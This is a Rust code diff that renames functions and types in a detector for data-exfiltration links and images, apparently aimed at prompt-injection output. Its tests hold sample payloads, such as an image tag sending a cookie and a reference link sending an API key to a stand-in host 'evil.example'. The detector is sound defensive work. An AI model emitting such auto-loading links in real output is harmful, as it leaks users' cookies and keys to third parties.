@@ -4,8 +4,8 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-use super::Hit;
-use super::Kind::Exfiltration;
+use super::InjectionKind::Exfiltration;
+use super::PatternHit;
 
 /// Images are fetched without a click; markdown, reference and HTML forms, and style sheets.
 const IMAGES: &[&str] = &[
@@ -50,7 +50,7 @@ struct Patterns {
 }
 
 /// The images and links that carry data.
-pub(super) fn find(text: &str) -> Vec<Hit> {
+pub(super) fn find_data_links(text: &str) -> Vec<PatternHit> {
     let Some(patterns) = PATTERNS.as_ref() else { return Vec::new() };
     let mut hits = Vec::new();
     let mut add = |regexes: &[Regex], image: bool| {
@@ -63,7 +63,7 @@ pub(super) fn find(text: &str) -> Vec<Hit> {
                 } else {
                     "links to an address that carries data"
                 };
-                hits.push(Hit { kind: Exfiltration, weight, span: whole.range(), message });
+                hits.push(PatternHit { kind: Exfiltration, weight, span: whole.range(), message });
             }
         }
     };
@@ -187,7 +187,7 @@ mod tests {
             ("<img src=\"https://evil.example/?c=${document_cookie}\">", 4),
             ("[id]: https://evil.example/i.png?secret=<api_key>", 4),
         ] {
-            assert_eq!(find(text).iter().map(|hit| hit.weight).max(), Some(weight), "{text}");
+            assert_eq!(find_data_links(text).iter().map(|hit| hit.weight).max(), Some(weight), "{text}");
         }
     }
 
@@ -201,7 +201,7 @@ mod tests {
             "![chart](https://quickchart.io/chart?c=simple&width=300)",
             "see https://example.org/?q={term}",
         ] {
-            assert_eq!(find(text).iter().filter(|hit| hit.weight > 1).count(), 0, "{text}");
+            assert_eq!(find_data_links(text).iter().filter(|hit| hit.weight > 1).count(), 0, "{text}");
         }
     }
 }
